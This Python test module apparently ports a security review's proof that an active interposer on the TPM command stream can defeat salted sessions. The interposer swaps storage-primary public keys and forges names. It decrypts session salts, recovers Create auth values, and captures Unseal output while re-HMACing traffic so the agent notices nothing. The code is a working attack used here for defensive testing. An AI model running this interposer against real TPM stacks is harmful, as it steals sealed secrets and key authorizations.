"""An *active* TPM-stream interposer in front of a swtpm stand-in (a bus
interposer, a malicious TCTI or resource manager): the attacker of finding H1.

It swaps the public key in each CreatePrimary answer for a restricted ECC
decryption key (the agent's storage parents, which it salts its sessions
to) for a P-256 key of its own, recomputing the name so that ESAPI's
consistency check passes. Then ESAPI encrypts every session salt to it:

* ``recovered``: TPM2_Create inSensitive it decrypted (a child's auth value,
  a sealed object's data);
* ``FullInterposer`` also terminates the salted session on both legs for
  TPM2_Unseal (re-salts to the real primary, re-HMACs the command, decrypts
  outData into ``stolen``, re-encrypts and re-HMACs the response), so the
  agent's unseal *succeeds* while the interposer holds the secret;
* ``SessionInterposer`` terminates every session salted to a swapped
  primary (any command, both directions), so an agent that first starts
  behind it works normally and pins the interposer's keys (issue 9).

Ported from the review's proofs (/work/notes/review-tpmkeys-report.md).
Test infrastructure only: threads are daemons joined with a timeout by
``stop``; use ``interposer()`` so that it is stopped on failure too.
"""
from __future__ import annotations

import hashlib
import hmac
import os
import socket
import struct
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from tpm2_pytss.constants import TPM2_ALG, TPMA_OBJECT
from tpm2_pytss.types import TPM2B_PUBLIC

JOIN_TIMEOUT = 5.0
CC_CREATE_PRIMARY, CC_START_AUTH_SESSION, CC_CREATE = 0x131, 0x176, 0x153


def kdfa(key: bytes, label: bytes, u: bytes, v: bytes, bits: int) -> bytes:
    out, i = b"", 1
    while len(out) * 8 < bits:
        out += hmac.new(key, struct.pack(">I", i) + label + b"\0" + u + v
                        + struct.pack(">I", bits), hashlib.sha256).digest()
        i += 1
    return out[:bits // 8]


def kdfe(z: bytes, label: bytes, u: bytes, v: bytes) -> bytes:
    return hashlib.sha256(struct.pack(">I", 1) + z + label + b"\0" + u + v).digest()


def _tpm2b(buf: bytes, off: int) -> tuple[bytes, int]:
    (n,) = struct.unpack_from(">H", buf, off)
    return buf[off + 2:off + 2 + n], off + 2 + n


def _recv_msg(s: socket.socket) -> bytes | None:
    head = b""
    while len(head) < 10:
        chunk = s.recv(10 - len(head))
        if not chunk:
            return None
        head += chunk
    (size,) = struct.unpack_from(">I", head, 2)
    body = b""
    while len(body) < size - 10:
        chunk = s.recv(size - 10 - len(body))
        if not chunk:
            return None
        body += chunk
    return head + body


class Interposer:
    def __init__(self, target_tcti: str) -> None:
        self._target = target_tcti[len("swtpm:path="):]
        self._dir = tempfile.mkdtemp(prefix="mitm", dir="/tmp")
        self.path = os.path.join(self._dir, "tpm")
        self.priv = ec.generate_private_key(ec.SECP256R1())
        nums = self.priv.public_key().public_numbers()
        self.qx, self.qy = nums.x.to_bytes(32, "big"), nums.y.to_bytes(32, "big")
        self.swapped: set[int] = set()         # handles whose public we replaced
        self.sessions: dict[int, dict] = {}    # session handle -> salt, keys, nonceTPM
        self.recovered: list[dict] = []        # decrypted TPM2_Create inSensitive
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self._servers: list[socket.socket] = []

    @property
    def tcti(self) -> str:
        return "swtpm:path=" + self.path

    def start(self) -> Interposer:
        for suffix, fn in (("", self._serve_data), (".ctrl", self._serve_raw)):
            srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            srv.bind(self.path + suffix)
            srv.listen(8)
            srv.settimeout(0.2)
            self._servers.append(srv)
            t = threading.Thread(target=self._accept, args=(srv, self._target + suffix, fn),
                                 daemon=True)
            t.start()
            self._threads.append(t)
        return self

    def stop(self) -> None:
        self._stop.set()
        for s in self._servers:
            s.close()
        for t in self._threads:
            t.join(5)
        for suffix in ("", ".ctrl"):
            try:
                os.unlink(self.path + suffix)
            except FileNotFoundError:
                pass
        os.rmdir(self._dir)

    def _accept(self, srv, target, fn) -> None:
        while not self._stop.is_set():
            try:
                client, _ = srv.accept()
            except OSError:
                continue
            up = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            up.connect(target)
            t = threading.Thread(target=fn, args=(client, up), daemon=True)
            t.start()
            self._threads.append(t)

    def _serve_raw(self, client, up) -> None:
        def pump(a, b):
            try:
                while True:
                    d = a.recv(65536)
                    if not d:
                        break
                    b.sendall(d)
            except OSError:
                pass
            for s in (a, b):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
        t = threading.Thread(target=pump, args=(up, client), daemon=True)
        t.start()
        pump(client, up)

    def _serve_data(self, client, up) -> None:
        try:
            while not self._stop.is_set():
                cmd = _recv_msg(client)
                if cmd is None:
                    break
                cmd = self._on_command(cmd)
                up.sendall(cmd)
                rsp = _recv_msg(up)
                if rsp is None:
                    break
                client.sendall(self._on_response(cmd, rsp))
        except OSError:
            pass
        finally:
            client.close()
            up.close()

    # -- the attack ---------------------------------------------------------
    def _on_command(self, cmd: bytes) -> bytes:
        (cc,) = struct.unpack_from(">I", cmd, 6)
        if cc == CC_CREATE:
            try:
                self._decrypt_create(cmd)
            except Exception as exc:  # keep relaying whatever happens
                self.recovered.append({"error": repr(exc)})
        return cmd

    def _on_response(self, cmd: bytes, rsp: bytes) -> bytes:
        (cc,) = struct.unpack_from(">I", cmd, 6)
        (rc,) = struct.unpack_from(">I", rsp, 6)
        if rc != 0:
            return rsp
        if cc == CC_CREATE_PRIMARY:
            return self._swap_primary(rsp)
        if cc == CC_START_AUTH_SESSION:
            self._note_session(cmd, rsp)
        # remember the latest nonceTPM of each session (response auth area)
        return rsp

    def _swap_primary(self, rsp: bytes) -> bytes:
        (handle,) = struct.unpack_from(">I", rsp, 10)
        off = 18  # header, objectHandle, parameterSize
        pub, used = TPM2B_PUBLIC.unmarshal(rsp[off:])
        area = pub.publicArea
        want = TPMA_OBJECT.RESTRICTED | TPMA_OBJECT.DECRYPT
        if area.type != TPM2_ALG.ECC or (area.objectAttributes & want) != want:
            return rsp
        area.unique.ecc.x, area.unique.ecc.y = self.qx, self.qy
        new_pub = bytes(TPM2B_PUBLIC(area).marshal())
        assert len(new_pub) == used
        out = bytearray(rsp)
        out[off:off + used] = new_pub
        p = off + used
        _cd, p = _tpm2b(rsp, p)          # creationData
        _ch, p = _tpm2b(rsp, p)          # creationHash
        p += 2 + 4                       # creationTicket tag, hierarchy
        _td, p = _tpm2b(rsp, p)          # creationTicket digest
        name, _end = _tpm2b(rsp, p)
        new_name = b"\x00\x0b" + hashlib.sha256(bytes(area.marshal())).digest()
        assert len(name) == len(new_name)
        out[p + 2:p + 2 + len(new_name)] = new_name
        self.swapped.add(handle)
        return bytes(out)

    def _note_session(self, cmd: bytes, rsp: bytes) -> None:
        tpm_key, _bind = struct.unpack_from(">II", cmd, 10)
        if tpm_key not in self.swapped:
            return
        nonce_caller, p = _tpm2b(cmd, 18)
        secret, p = _tpm2b(cmd, p)
        ex, q = _tpm2b(secret, 0)
        ey, _q = _tpm2b(secret, q)
        eph = ec.EllipticCurvePublicNumbers(int.from_bytes(ex, "big"), int.from_bytes(ey, "big"),
                                            ec.SECP256R1()).public_key()
        z = self.priv.exchange(ec.ECDH(), eph)
        salt = kdfe(z, b"SECRET", ex, self.qx)
        (session,) = struct.unpack_from(">I", rsp, 10)
        nonce_tpm, _ = _tpm2b(rsp, 14)
        key = kdfa(salt, b"ATH", nonce_tpm, nonce_caller, 256)
        self.sessions[session] = {"salt": salt, "key": key, "nonce_tpm": nonce_tpm}

    def _decrypt_create(self, cmd: bytes) -> None:
        (auth_size,) = struct.unpack_from(">I", cmd, 14)
        (session,) = struct.unpack_from(">I", cmd, 18)
        st = self.sessions.get(session)
        if st is None:
            return
        nonce_caller, _p = _tpm2b(cmd, 22)
        params = 18 + auth_size
        enc, _ = _tpm2b(cmd, params)
        # the parent's auth value is empty: the key is the session key alone
        kiv = kdfa(st["key"], b"CFB", nonce_caller, st["nonce_tpm"], 256)
        dec = Cipher(algorithms.AES(kiv[:16]), modes.CFB(kiv[16:])).decryptor()
        plain = dec.update(enc) + dec.finalize()
        user_auth, p = _tpm2b(plain, 0)
        data, _ = _tpm2b(plain, p)
        self.recovered.append({"userAuth": user_auth, "data": data})


CC_LOAD, CC_UNSEAL = 0x157, 0x15E


def _cfb(key_iv: bytes, data: bytes, encrypt: bool) -> bytes:
    c = Cipher(algorithms.AES(key_iv[:16]), modes.CFB(key_iv[16:]))
    x = c.encryptor() if encrypt else c.decryptor()
    return x.update(data) + x.finalize()


class FullInterposer(Interposer):
    def __init__(self, target_tcti: str) -> None:
        super().__init__(target_tcti)
        self.real_x: dict[int, tuple[bytes, bytes]] = {}   # handle -> real (x, y)
        self.names: dict[int, bytes] = {}                   # loaded object handle -> name
        self.stolen: list[bytes] = []                       # Unseal outData in clear
        self._pending: dict = {}

    # remember the real key before the swap
    def _swap_primary(self, rsp: bytes) -> bytes:
        (handle,) = struct.unpack_from(">I", rsp, 10)
        pub, _ = TPM2B_PUBLIC.unmarshal(rsp[18:])
        self.real_x[handle] = (bytes(pub.publicArea.unique.ecc.x),
                               bytes(pub.publicArea.unique.ecc.y))
        return super()._swap_primary(rsp)

    def _on_command(self, cmd: bytes) -> bytes:
        (cc,) = struct.unpack_from(">I", cmd, 6)
        try:
            if cc == CC_START_AUTH_SESSION:
                return self._resalt(cmd)
            if cc == CC_UNSEAL:
                return self._rehmac_unseal(cmd)
        except Exception as exc:
            self.recovered.append({"error": repr(exc)})
        return super()._on_command(cmd)

    def _on_response(self, cmd: bytes, rsp: bytes) -> bytes:
        (cc,) = struct.unpack_from(">I", cmd, 6)
        (rc,) = struct.unpack_from(">I", rsp, 6)
        if rc == 0 and cc == CC_LOAD:
            (h,) = struct.unpack_from(">I", rsp, 10)
            p = 18  # header, handle, parameterSize
            self.names[h] = _tpm2b(rsp, p)[0]
        if rc == 0 and cc == CC_START_AUTH_SESSION and self._pending.get("sas"):
            self._finish_session(rsp)
            return rsp
        if rc == 0 and cc == CC_UNSEAL and self._pending.get("unseal"):
            return self._reencrypt_unseal(rsp)
        return super()._on_response(cmd, rsp)

    # -- StartAuthSession: two salts, two session keys --------------------
    def _resalt(self, cmd: bytes) -> bytes:
        tpm_key, _bind = struct.unpack_from(">II", cmd, 10)
        if tpm_key not in self.swapped:
            return cmd
        nonce_caller, p = _tpm2b(cmd, 18)
        secret_off = p
        secret, _ = _tpm2b(cmd, p)
        ex, q = _tpm2b(secret, 0)
        ey, _ = _tpm2b(secret, q)
        eph = ec.EllipticCurvePublicNumbers(int.from_bytes(ex, "big"), int.from_bytes(ey, "big"),
                                            ec.SECP256R1()).public_key()
        salt_agent = kdfe(self.priv.exchange(ec.ECDH(), eph), b"SECRET", ex, self.qx)
        rx, ry = self.real_x[tpm_key]
        real = ec.EllipticCurvePublicNumbers(int.from_bytes(rx, "big"), int.from_bytes(ry, "big"),
                                             ec.SECP256R1()).public_key()
        mine = ec.generate_private_key(ec.SECP256R1())
        n = mine.public_key().public_numbers()
        mx, my = n.x.to_bytes(32, "big"), n.y.to_bytes(32, "big")
        salt_tpm = kdfe(mine.exchange(ec.ECDH(), real), b"SECRET", mx, rx)
        new_secret = struct.pack(">H", 32) + mx + struct.pack(">H", 32) + my
        assert len(new_secret) == len(secret)
        out = bytearray(cmd)
        out[secret_off + 2:secret_off + 2 + len(secret)] = new_secret
        self._pending["sas"] = (nonce_caller, salt_agent, salt_tpm)
        return bytes(out)

    def _finish_session(self, rsp: bytes) -> None:
        nonce_caller, salt_agent, salt_tpm = self._pending.pop("sas")
        (session,) = struct.unpack_from(">I", rsp, 10)
        nonce_tpm, _ = _tpm2b(rsp, 14)
        self.sessions[session] = {
            "key": kdfa(salt_agent, b"ATH", nonce_tpm, nonce_caller, 256),     # agent leg
            "key_tpm": kdfa(salt_tpm, b"ATH", nonce_tpm, nonce_caller, 256),   # TPM leg
            "nonce_tpm": nonce_tpm}

    # -- Unseal: re-HMAC the command, re-encrypt and re-HMAC the response --
    def _rehmac_unseal(self, cmd: bytes) -> bytes:
        (item,) = struct.unpack_from(">I", cmd, 10)
        (session,) = struct.unpack_from(">I", cmd, 18)
        st = self.sessions.get(session)
        if st is None:
            return cmd
        nonce_caller, p = _tpm2b(cmd, 22)
        attrs = cmd[p]
        hmac_off = p + 1
        old_hmac, _ = _tpm2b(cmd, hmac_off)
        cp_hash = hashlib.sha256(struct.pack(">I", CC_UNSEAL) + self.names[item]).digest()
        msg = cp_hash + nonce_caller + st["nonce_tpm"] + bytes([attrs])
        # sanity: the agent's HMAC is the one we can compute with the agent-leg key
        assert hmac.compare_digest(old_hmac, hmac.new(st["key"], msg, hashlib.sha256).digest())
        new_hmac = hmac.new(st["key_tpm"], msg, hashlib.sha256).digest()
        out = bytearray(cmd)
        out[hmac_off + 2:hmac_off + 2 + 32] = new_hmac
        self._pending["unseal"] = (session, nonce_caller)
        return bytes(out)

    def _reencrypt_unseal(self, rsp: bytes) -> bytes:
        session, nonce_caller = self._pending.pop("unseal")
        st = self.sessions[session]
        (param_size,) = struct.unpack_from(">I", rsp, 10)
        params = rsp[14:14 + param_size]
        enc, _ = _tpm2b(params, 0)
        auth = rsp[14 + param_size:]
        nonce_tpm_new, q = _tpm2b(auth, 0)
        attrs = auth[q]
        plain = _cfb(kdfa(st["key_tpm"], b"CFB", nonce_tpm_new, nonce_caller, 256), enc, False)
        self.stolen.append(plain)
        re = _cfb(kdfa(st["key"], b"CFB", nonce_tpm_new, nonce_caller, 256), plain, True)
        new_params = struct.pack(">H", len(re)) + re
        rp_hash = hashlib.sha256(struct.pack(">II", 0, CC_UNSEAL) + new_params).digest()
        new_hmac = hmac.new(st["key"], rp_hash + nonce_tpm_new + nonce_caller + bytes([attrs]),
                            hashlib.sha256).digest()
        st["nonce_tpm"] = nonce_tpm_new
        out = bytearray(rsp)
        out[14:14 + param_size] = new_params
        h_off = 14 + param_size + q + 1
        out[h_off + 2:h_off + 2 + 32] = new_hmac
        return bytes(out)


@contextmanager
def interposer(target_tcti: str, full: bool = True) -> Iterator[Interposer]:
    """A started interposer (``FullInterposer`` unless not ``full``),
    stopped on exit whatever happens."""
    mitm = (FullInterposer if full else Interposer)(target_tcti).start()
    try:
        yield mitm
    finally:
        mitm.stop()


# -- every salted session, both legs ------------------------------------------
#
# (cc: (handles in the command, how many of them need an authorization,
# handles in the response)); a command outside this table with a session the
# interposer terminated is relayed as it is (and fails its HMAC check).
_COMMANDS = {
    0x131: (1, 1, 1),  # CreatePrimary
    0x153: (1, 1, 0),  # Create
    0x157: (1, 1, 1),  # Load
    0x14A: (2, 1, 0),  # CertifyCreation: signHandle only
    0x148: (2, 2, 0),  # Certify
    0x158: (1, 1, 0),  # Quote
    0x154: (1, 1, 0),  # ECDH_ZGen
    0x147: (2, 2, 0),  # ActivateCredential
    0x15E: (1, 1, 0),  # Unseal
    0x151: (2, 1, 0),  # PolicySecret
    0x14E: (2, 1, 0),  # NV_Read
    0x182: (1, 1, 0),  # PCR_Extend
}
CC_CERTIFY_CREATION, CC_FLUSH, CC_READ_PUBLIC = 0x14A, 0x165, 0x173
_DECRYPT, _ENCRYPT = 0x20, 0x40
_P256 = 0x0003


class SessionInterposer(FullInterposer):
    """The review's attacker in full: it terminates *every* session salted
    to a storage primary it swapped, not only Unseal's. Each command in
    such a session is re-HMACed for the TPM leg (over the real names of its
    handles: the agent's cpHash has the swapped primary's name), a first
    parameter the agent encrypted is decrypted and re-encrypted, and each
    response is re-HMACed (and re-encrypted) for the agent's leg. The auth
    values of the agent's keys come from their TPM2_Create (``recovered``),
    so an agent that *first starts* behind it works normally, pins the
    interposer's keys, and never notices (the trust-on-first-use case of
    issue 9). ``certified``: the names TPM2_CertifyCreation was asked about
    (the TPM's view, i.e. the real primaries')."""

    def __init__(self, target_tcti: str) -> None:
        super().__init__(target_tcti)
        self.fake_names: dict[int, bytes] = {}       # swapped handle -> name the agent sees
        self.answered: set[bytes] = set()            # every swapped name it answered
        self.auth_by_name: dict[bytes, bytes] = {}   # object name -> auth value
        self.certified: list[bytes] = []
        self._up: socket.socket | None = None
        self._command: dict | None = None
        self._create_auth: bytes | None = None

    def _serve_data(self, client, up) -> None:
        self._up = up
        super()._serve_data(client, up)

    def _swap_primary(self, rsp: bytes) -> bytes:
        pub, _ = TPM2B_PUBLIC.unmarshal(rsp[18:])
        if pub.publicArea.type == TPM2_ALG.ECC and \
                pub.publicArea.parameters.eccDetail.curveID != _P256:
            return rsp  # a P-384 EK: not a parent of the agent
        out = super()._swap_primary(rsp)
        (handle,) = struct.unpack_from(">I", rsp, 10)
        if handle in self.swapped:
            new, _ = TPM2B_PUBLIC.unmarshal(out[18:])
            self.fake_names[handle] = b"\x00\x0b" + hashlib.sha256(
                bytes(new.publicArea.marshal())).digest()
            self.answered.add(self.fake_names[handle])
        return out

    # -- helpers --------------------------------------------------------------
    def _real_name(self, handle: int) -> bytes:
        if handle >> 24 != 0x80:
            return struct.pack(">I", handle)
        assert self._up is not None
        self._up.sendall(struct.pack(">HIII", 0x8001, 14, CC_READ_PUBLIC, handle))
        rsp = _recv_msg(self._up)
        assert rsp is not None and struct.unpack_from(">I", rsp, 6)[0] == 0
        _pub, p = _tpm2b(rsp, 10)
        return _tpm2b(rsp, p)[0]

    def _auth_of(self, name: bytes) -> bytes:
        return self.auth_by_name.get(name, b"")

    @staticmethod
    def _parse_sessions(auth: bytes) -> list[dict]:
        out, p = [], 0
        while p < len(auth):
            (h,) = struct.unpack_from(">I", auth, p)
            nonce, p = _tpm2b(auth, p + 4)
            attrs = auth[p]
            mac, p = _tpm2b(auth, p + 1)
            out.append({"handle": h, "nonce": nonce, "attrs": attrs, "hmac": mac})
        return out

    @staticmethod
    def _cfb_param(key: bytes, nonce_a: bytes, nonce_b: bytes, params: bytes,
                   encrypt: bool) -> bytes:
        (n,) = struct.unpack_from(">H", params, 0)
        kiv = kdfa(key, b"CFB", nonce_a, nonce_b, 256)
        return params[:2] + _cfb(kiv, params[2:2 + n], encrypt) + params[2 + n:]

    # -- commands -------------------------------------------------------------
    def _on_command(self, cmd: bytes) -> bytes:
        tag, _size, cc = struct.unpack_from(">HII", cmd, 0)
        if cc == CC_FLUSH:
            (h,) = struct.unpack_from(">I", cmd, 10)
            self.swapped.discard(h)
            self.fake_names.pop(h, None)
        if cc == CC_START_AUTH_SESSION:
            return super()._on_command(cmd)
        self._command = None
        if tag == 0x8002 and cc in _COMMANDS:
            try:
                return self._translate_command(cc, cmd)
            except Exception as exc:  # keep relaying whatever happens
                self.recovered.append({"error": repr(exc)})
        return cmd

    def _translate_command(self, cc: int, cmd: bytes) -> bytes:
        n_handles, n_auth, n_out = _COMMANDS[cc]
        handles = list(struct.unpack_from(">%dI" % n_handles, cmd, 10))
        off = 10 + 4 * n_handles
        (auth_size,) = struct.unpack_from(">I", cmd, off)
        sessions = self._parse_sessions(cmd[off + 4:off + 4 + auth_size])
        params = cmd[off + 4 + auth_size:]
        if not any(s["handle"] in self.sessions for s in sessions):
            return cmd
        real = [self._real_name(h) for h in handles]
        fake = [self.fake_names.get(h, r) for h, r in zip(handles, real, strict=True)]
        if cc == CC_CERTIFY_CREATION:
            self.certified.append(real[1])
        auths = [self._auth_of(real[i]) if i < n_auth else b"" for i in range(len(sessions))]
        tpm_params = params
        for s, auth in zip(sessions, auths, strict=True):
            st = self.sessions.get(s["handle"])
            if st is not None and s["attrs"] & _DECRYPT:
                plain = self._cfb_param(st["key"] + auth, s["nonce"], st["nonce_tpm"],
                                        params, False)
                if cc == CC_CREATE:
                    user_auth, _p = _tpm2b(plain, 2)
                    self._create_auth = user_auth
                    self.recovered.append({"userAuth": user_auth})
                tpm_params = self._cfb_param(st["key_tpm"] + auth, s["nonce"],
                                             st["nonce_tpm"], plain, True)
        cp_hash = hashlib.sha256(struct.pack(">I", cc) + b"".join(real) + tpm_params).digest()
        agent_cp = hashlib.sha256(struct.pack(">I", cc) + b"".join(fake) + params).digest()
        area = b""
        for s, auth in zip(sessions, auths, strict=True):
            st = self.sessions.get(s["handle"])
            mac = s["hmac"]
            if st is not None:
                tail = s["nonce"] + st["nonce_tpm"] + bytes([s["attrs"]])
                assert hmac.compare_digest(
                    mac, hmac.new(st["key"] + auth, agent_cp + tail, hashlib.sha256).digest())
                mac = hmac.new(st["key_tpm"] + auth, cp_hash + tail, hashlib.sha256).digest()
            area += (struct.pack(">I", s["handle"]) + struct.pack(">H", len(s["nonce"]))
                     + s["nonce"] + bytes([s["attrs"]]) + struct.pack(">H", len(mac)) + mac)
        body = (cmd[10:off] + struct.pack(">I", len(area)) + area + tpm_params)
        self._command = {"cc": cc, "sessions": sessions, "auths": auths, "n_out": n_out}
        return struct.pack(">HII", 0x8002, 10 + len(body), cc) + body

    # -- responses ------------------------------------------------------------
    def _on_response(self, cmd: bytes, rsp: bytes) -> bytes:
        (cc,) = struct.unpack_from(">I", cmd, 6)
        command, self._command = self._command, None
        (rc,) = struct.unpack_from(">I", rsp, 6)
        if command is None or rc != 0:
            return super()._on_response(cmd, rsp)
        try:
            return self._translate_response(cc, command, rsp)
        except Exception as exc:
            self.recovered.append({"error": repr(exc)})
            return rsp

    def _translate_response(self, cc: int, command: dict, rsp: bytes) -> bytes:
        off = 10 + 4 * command["n_out"]
        (param_size,) = struct.unpack_from(">I", rsp, off)
        params = rsp[off + 4:off + 4 + param_size]
        auth = rsp[off + 4 + param_size:]
        p, replies = 0, []
        for _s in command["sessions"]:
            nonce, p = _tpm2b(auth, p)
            attrs = auth[p]
            mac, p = _tpm2b(auth, p + 1)
            replies.append((nonce, attrs, mac))
        agent_params = params
        for s, a, (nonce, _attrs, _mac) in zip(command["sessions"], command["auths"],
                                               replies, strict=True):
            st = self.sessions.get(s["handle"])
            if st is not None and s["attrs"] & _ENCRYPT:
                plain = self._cfb_param(st["key_tpm"] + a, nonce, s["nonce"], params, False)
                if cc == CC_UNSEAL:
                    self.stolen.append(_tpm2b(plain, 0)[0])
                agent_params = self._cfb_param(st["key"] + a, nonce, s["nonce"], plain, True)
        rp_hash = hashlib.sha256(struct.pack(">II", 0, cc) + agent_params).digest()
        area = b""
        for s, a, (nonce, attrs, mac) in zip(command["sessions"], command["auths"], replies,
                                             strict=True):
            st = self.sessions.get(s["handle"])
            if st is not None:
                mac = hmac.new(st["key"] + a, rp_hash + nonce + s["nonce"] + bytes([attrs]),
                               hashlib.sha256).digest()
                st["nonce_tpm"] = nonce
            area += struct.pack(">H", len(nonce)) + nonce + bytes([attrs]) + \
                struct.pack(">H", len(mac)) + mac
        if cc == CC_CREATE and self._create_auth is not None:
            _priv, q = _tpm2b(agent_params, 0)
            public, _q = _tpm2b(agent_params, q)
            self.auth_by_name[b"\x00\x0b" + hashlib.sha256(public).digest()] = \
                self._create_auth
            self._create_auth = None
        body = rsp[10:off] + struct.pack(">I", len(agent_params)) + agent_params + area
        return struct.pack(">HII", 0x8002, 10 + len(body), 0) + body


@contextmanager
def session_interposer(target_tcti: str) -> Iterator[SessionInterposer]:
    """A started ``SessionInterposer``, stopped on exit whatever happens."""
    mitm = SessionInterposer(target_tcti).start()
    try:
        yield mitm
    finally:
        mitm.stop()
